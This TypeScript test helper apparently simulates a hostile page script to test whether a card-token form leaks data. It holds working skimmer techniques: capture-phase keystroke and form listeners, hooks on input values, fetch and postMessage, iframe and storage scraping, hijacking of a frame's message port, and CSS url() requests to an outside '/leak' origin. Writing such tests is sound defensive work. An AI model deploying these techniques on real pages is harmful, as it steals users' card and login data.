/** What a hostile script of a page leaves for the test to read. */
export interface Hostile {
  /** All that it heard, saw or got hold of, as text. */
  readonly heard: string[];
  /** Messages that came over a port that it handed to a frame by itself. */
  readonly overheard: unknown[];
}

/**
 * Runs in a page, before everything else, and does what a skimmer does: listens to everything in the capture phase,
 * replaces what typing and messages pass through, watches the document, reaches into every frame. It keeps all
 * that in `hostile.heard`.
 *
 * @param options.elsewhere an origin that would like to be asked for something
 * @param options.connect what it takes to connect to a frame, to be the first that does
 */
export function hostileScript(options: {
  readonly elsewhere: string;
  readonly connect?: {readonly hello: string; readonly connect: string; readonly options: object};
}): void {
  const heard: string[] = [];
  const overheard: unknown[] = [];
  Object.assign(globalThis, {hostile: {heard, overheard}});
  const texts = (value: unknown, depth = 0): void => {
    if (typeof value === 'string' || typeof value === 'number') heard.push(String(value));
    else if (typeof value === 'object' && value !== null && depth < 5) {
      if (value instanceof Node || value === window) return;
      for (const key in value) {
        try {
          texts((value as Record<string, unknown>)[key], depth + 1);
        } catch {
          // of another origin
        }
      }
    }
  };
  const types =
    'keydown keypress keyup beforeinput input textInput change paste copy cut drop dragstart selectionchange ' +
    'compositionstart compositionupdate compositionend focusin focusout submit formdata invalid token token-error ' +
    'message click pointerdown pointermove error unhandledrejection securitypolicyviolation';
  for (const target of [window, document, document.documentElement]) {
    for (const type of types.split(' ')) {
      target.addEventListener(
        type,
        (event) => {
          texts(event);
          for (const node of event.composedPath()) if ('value' in node) texts(node.value);
        },
        true,
      );
    }
  }
  // what text and messages pass through
  const spy = (owner: object | undefined, name: string): void => {
    const native = owner && Object.getOwnPropertyDescriptor(owner, name);
    if (!owner || !native?.configurable) return;
    const {value: call, get, set} = native;
    Object.defineProperty(owner, name, {
      ...native,
      ...(typeof call === 'function' && {
        value(this: unknown, ...args: unknown[]): unknown {
          texts(args);
          // eslint-disable-next-line @typescript-eslint/no-unsafe-function-type -- whatever it is
          const result: unknown = Reflect.apply(call as Function, this, args);
          texts(result);
          return result;
        },
      }),
      ...(get && {
        get(this: unknown): unknown {
          const result: unknown = get.call(this);
          texts(result);
          return result;
        },
      }),
      ...(set && {
        set(this: unknown, text: unknown) {
          texts(text);
          set.call(this, text);
        },
      }),
    });
  };
  spy(HTMLInputElement.prototype, 'value');
  spy(HTMLInputElement.prototype, 'setSelectionRange');
  spy(MessagePort.prototype, 'postMessage');
  spy(MessageEvent.prototype, 'data');
  spy(window, 'postMessage');
  spy(window, 'fetch');
  spy(XMLHttpRequest.prototype, 'send');
  spy(JSON, 'stringify');
  spy(Element.prototype, 'setAttribute');
  spy(ElementInternals.prototype, 'setFormValue');
  spy(Navigator.prototype, 'sendBeacon');
  const open = Element.prototype.attachShadow;
  const roots: ShadowRoot[] = [];
  Element.prototype.attachShadow = function attachShadow(init) {
    const root = open.call(this, {...init, mode: 'open'});
    roots.push(root);
    watch(root);
    return root;
  };
  const look = (root: Document | ShadowRoot): void => {
    for (const element of root.querySelectorAll('*')) {
      heard.push(...[...element.attributes].map(({value}) => value));
      if ('value' in element) texts(element.value);
      if (!(element instanceof HTMLIFrameElement)) continue;
      for (const reach of [
        () => element.contentDocument?.documentElement.outerHTML,
        () => (element.contentWindow as Window & {document: Document}).document.body.innerHTML,
        () => element.contentWindow?.location.href,
        () => element.contentWindow?.getSelection()?.toString(),
        () => (element.contentWindow as {name?: string} | null)?.name,
      ]) {
        try {
          texts(reach());
        } catch {
          // of another origin
        }
      }
    }
    texts(root.textContent ?? '');
  };
  const watch = (root: Document | ShadowRoot): void =>
    new MutationObserver(() => {
      look(root);
    }).observe(root, {subtree: true, childList: true, characterData: true, attributes: true});
  watch(document);
  Object.assign(globalThis, {
    lookAround: () => {
      for (const root of [document, ...roots]) look(root);
      texts(performance.getEntries().map(({name}) => name));
      texts([
        {...localStorage},
        {...sessionStorage},
        document.cookie,
        location.href,
        getSelection()?.toString(),
      ]);
    },
  });
  const {connect} = options;
  if (connect) {
    window.addEventListener(
      'message',
      ({data, source}) => {
        if (data !== connect.hello) return;
        const {port1, port2} = new MessageChannel();
        port1.onmessage = (event) => overheard.push(event.data);
        (source as Window).postMessage(connect.connect, '*', [port2]);
        port1.postMessage({type: 'configure', options: connect.options});
        Object.assign(globalThis, {stolen: port1});
      },
      true,
    );
  }
  // styles that would like to fetch
  const from = `${options.elsewhere}/by${location.pathname}`;
  const style = document.createElement('style');
  const fetching = [
    'field-background',
    'text-color',
    'field-font-family',
    'border-color',
    'font-family',
    'gap',
  ].map((name) => `--token-form-${name}: url(${from}/leak?${name});`);
  style.textContent =
    `@font-face {font-family: Leaky; src: url(${from}/leak.woff); unicode-range: U+30-39}` +
    `card-token-form {--token-form-accent-color: image-set("${from}/leak.png" 1x);` +
    `${fetching.join('')}}`;
  document.head.append(style);
}
